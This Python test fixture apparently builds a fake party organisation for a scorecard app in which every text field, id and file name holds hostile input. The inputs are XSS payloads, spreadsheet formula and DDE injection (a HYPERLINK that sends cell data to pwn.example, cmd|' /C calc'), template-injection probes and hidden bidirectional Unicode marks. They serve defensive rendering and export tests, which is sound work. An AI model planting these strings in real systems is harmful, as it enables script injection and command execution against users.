"""A made-up organisation in which every text field of every input table is hostile.

Under one Đảng bộ stands a chi bộ for each entry of ``PAYLOADS``: whatever is text or an id in its
rows holds that text, so that a page of the whole tree shows all of them side by side. What an id
may hold is narrower (no marks, 200 letters), so ids hold ``HOSTILE_ID``.
"""
# ruff: noqa: E501 (a payload reads better whole)

import csv
import re
from pathlib import Path
from typing import Final

from scorecard.model.tables import TABLES, Kind

LONGEST: Final = 32_767
"""Letters of the longest text that a source may hold."""

_LONG: Final = 4_000
_LONG_COLUMNS: Final = ("cause", "note", "definition")
"""Columns whose texts are as long as can be; elsewhere they are long, so that pages stay quick."""

PAYLOADS: Final = {
    "markup": '=HYPERLINK("http://pwn.example/?"&A1,"bấm") <b id="pwn">đậm</b><h1 id="pwn">to</h1>'
    '<img id="pwn" src="/pwn.png" onerror="pwned=1"></textarea></title></style></svg>--></p>]]>'
    '<script id="pwn">pwned=1</script><svg id="pwn" onload="pwned=1"><base href="//x/">'
    '<iframe id="pwn" srcdoc="<script>parent.pwned=1</script>"></iframe><!-- <plaintext>',
    "attribute": "+1+cmd|' /C calc'!A0 \" onmouseover=\"pwned=1\" id=\"pwn\" x=' onfocus='pwned=1' id='pwn'"
    ' ` autofocus > <a id="pwn" href="javascript:pwned=1">nối</a> data:text/html,1 url(/pwn.png)'
    '<style id="pwn">*{display:none}</style>;}*{background:url(/pwn.png)} /*',
    "markdown": "-1+cmd|' /C calc'!A0 **đậm** _nghiêng_ ![ảnh](/pwn.png) [nối](javascript:pwned=1)"
    " `mã` ~~gạch~~ <x@pwn.example> https://pwn.example/ [^1] - [x] xong",
    "blocks": "@SUM(1+1)*cmd|' /C calc'!A0\n\n# đề mục\n\n- một\n\n> trích\n\n| a | b |\n|---|---|"
    "\n| 1 |\n\n```\nmã\n```\n\n![ảnh](/pwn.png)\n\n---"
    '\nmột,=1+1;=2+2\t=3+3\n=4+4\n"=5+5",@SUM(1)\r\n+6+6',
    "directives": ":material/home: :red[đỏ] :blue-background[nền] :rainbow[màu] :small[nhỏ] :smile:"
    " $\\frac{1}{2}$ $$\\href{javascript:pwned=1}{x}$$ \\(y\\) &lt;b&gt; &amp;amp; &#60;i&#62; {{7*7}}"
    " ${7*7} %{x} %s {0} %7B <br>",
    "marks": "\uff1d1+1 trái \u202eđảo \u2067cô lập \u061c\u200f phải \u202bnhúng \u2068mở \u2066nữa"
    " ẩn\u200bgiữa\u2060chừng\ufeffchữ\u00adthôi",
    "arabic": "שלום עולם مرحبا 12/2024 \U0001f468\u200d\U0001f469\u200d\U0001f467 🇻🇳 ❤️ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A͊̒̓̅̂",
    "longest": "dài" * 1_000 + " rất dài" * 100 + "🎉" * 29_000,
}  # fmt: skip
"""What the texts hold, by kind; a page shows it as written, but for the marks below."""

MARKS: Final = "\xad\u061c\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff"
"""Marks that hide, or turn the writing around: neither shown nor written into a download."""

HOSTILE_ID: Final = "hx-<b id='pwn'>\"&:red[m] **$x$"
ROOT: Final = f"={HOSTILE_ID}"
DAY: Final = "2024-09-30"
FILE: Final = "actuals-<img id='pwn' src='pwn.png' onerror='pwned=1'>**đậm**.csv"


def organisation(kind: str) -> str:
    """Id of the chi bộ whose texts are of a kind."""
    return f"{HOSTILE_ID} {kind}"


def target(kind: str) -> str:
    """Id of its target."""
    return f"{HOSTILE_ID} ct-{kind}"


def resolution(kind: str) -> str:
    """Id of its resolution."""
    return f"{HOSTILE_ID} nq-{kind}"


def written(kind: str, table: str, column: str) -> str:
    """What a text column of a kind's rows holds: the payload, then where it stands."""
    place = f" {table}.{column}"
    most = LONGEST if column in _LONG_COLUMNS else _LONG
    return PAYLOADS[kind][: most - len(place)] + place


def as_shown(text: str) -> str:
    """A text as a page shows it: without the marks, blanks folded."""
    return " ".join(re.sub(f"[{MARKS}]", "", text).split())


def write_hostile_sources(folder: Path) -> tuple[Path, Path]:
    """Write two folders of CSV files, for two loads: all tables, then decisions and changes."""
    rows = _all_rows()
    decisions = {"adjustments": rows.pop("adjustments")}
    changed = {row["target_id"] for row in decisions["adjustments"]}
    decisions["targets"] = [
        {**row, "value": "90"} for row in rows["targets"] if row["id"] in changed
    ]
    return _write(folder / "=<b>nguồn</b>", rows), _write(folder / "điều chỉnh", decisions)


def _all_rows() -> dict[str, list[dict[str, str]]]:
    """Rows of every table."""
    rows: dict[str, list[dict[str, str]]] = {table.name: [] for table in TABLES}
    root = {"id": ROOT, "kind": "dang_bo", **_texts("organisations", "markup")}
    rows["organisations"].append(root)
    for number, kind in enumerate(PAYLOADS):
        for name, found in _rows(kind, number).items():
            rows.setdefault(name, []).extend({**_texts(name, kind), **row} for row in found)
    return rows


def _write(folder: Path, rows: dict[str, list[dict[str, str]]]) -> Path:
    """Write tables as a folder of CSV files, one of them under a hostile name."""
    folder.mkdir(parents=True)
    for table in TABLES:
        if table.name not in rows:
            continue
        path = folder / (FILE if table.name == "actuals" else f"{table.name}.csv")
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, table.column_names, delimiter=";")
            writer.writeheader()
            writer.writerows(rows[table.name])
    return folder


def text_columns(table: str) -> list[str]:
    """Names of a table's text columns."""
    columns = next(each for each in TABLES if each.name == table).columns
    return [column.name for column in columns if column.kind is Kind.TEXT]


def _texts(table: str, kind: str) -> dict[str, str]:
    return {name: written(kind, table, name) for name in text_columns(table)}


def _rows(kind: str, number: int) -> dict[str, list[dict[str, str]]]:
    """What is no text in the rows of one chi bộ: a sum with reports, a rating, a lonely figure."""
    own, promise, rated = organisation(kind), target(kind), f"{target(kind)} xl"
    summed, lonely, rating, scale = (f"{HOSTILE_ID} {name}-{kind}" for name in ("s", "l", "r", "t"))
    report = {"organisation_id": own, "indicator_id": summed, "recorded_on": "2024-10-05"}
    dated = {"recorded_on": "2024-04-05"}
    return {
        "organisations": [
            {"id": own, "kind": "chi_bo", "parent_id": ROOT},
            {"id": f"{own} cũ", "kind": "chi_bo", "parent_id": ROOT, "successor_id": own}
            | {"valid_from": "2020-01-01", "valid_to": "2023-06-30"},
        ],
        "terms": [
            {"id": f"{own} nk", "organisation_id": own}
            | {"start_date": "2022-01-01", "end_date": "2026-12-31"}
        ],
        "resolutions": [
            {"id": resolution(kind), "organisation_id": own, "kind": "congress"}
            | {"term_id": f"{own} nk", "adopted_on": "2022-01-01"},
            {"id": f"{resolution(kind)} 2", "organisation_id": own, "kind": "year", "year": "2024"},
        ],
        "scales": [
            {"id": scale, "level": f"{HOSTILE_ID} bậc {rank}", "rank": str(rank)}
            | ({"name": f"thấp {rank} {kind}"} if rank > 1 else {})
            for rank in (1, 2)
        ],
        "indicators": [
            {"id": summed, "measure": "flow"},
            {"id": lonely, "measure": "flow"},
            {"id": rating, "measure": "rating", "scale_id": scale},
        ],
        "targets": [
            {"id": promise, "resolution_id": resolution(kind), "indicator_id": summed}
            | {"comparator": ">=", "value": "100", "cadence": "each_year"},
            {"id": rated, "resolution_id": f"{resolution(kind)} 2", "indicator_id": rating}
            | {"comparator": ">=", "level": f"{HOSTILE_ID} bậc 1", "cadence": "each_year"},
            {"id": f"{promise} lt", "resolution_id": resolution(kind), "indicator_id": summed}
            | {"comparator": ">=", "cadence": "by_year", "first_year": "2024", "last_year": "2024"},
        ],
        "target_years": [{"target_id": f"{promise} lt", "year": "2024", "value": "50"}],
        "actuals": [
            {**report, "period": "2023", "value": "99"},
            {**report, "period": "2024-Q1", "value": "12", **dated},
            {**report, "period": "2024-Q1", "value": str(14 + number), "recorded_on": "2024-08-05"},
            {**report, "period": "2024-Q2", "value": "2"},
            {**report, "indicator_id": lonely, "period": "2024-Q1", "value": "7"},
            {**report, "indicator_id": rating, "period": "2023", "level": f"{HOSTILE_ID} bậc 1"},
        ],
        "narratives": [
            {"organisation_id": own, "subject": f"term:{own} nk", "recorded_on": "2024-10-01"}
        ],
        "closings": [
            {"organisation_id": own, "review_date": DAY}
            | {"known_at": "2024-11-01", "recorded_on": "2024-11-01"}
        ],
        "acknowledgements": [
            {"organisation_id": own, "indicator_id": summed, "period": "2023"}
            | {"recorded_on": "2024-11-01"}
        ],
        "adjustments": [
            {"target_id": promise, "decided_on": "2022-06-01", "recorded_on": "2022-06-02"}
        ],
        "commentaries": [
            {"target_id": each, "review_date": DAY, "recorded_on": "2024-10-01"}
            for each in (promise, rated, f"{promise} lt")
        ],
    }
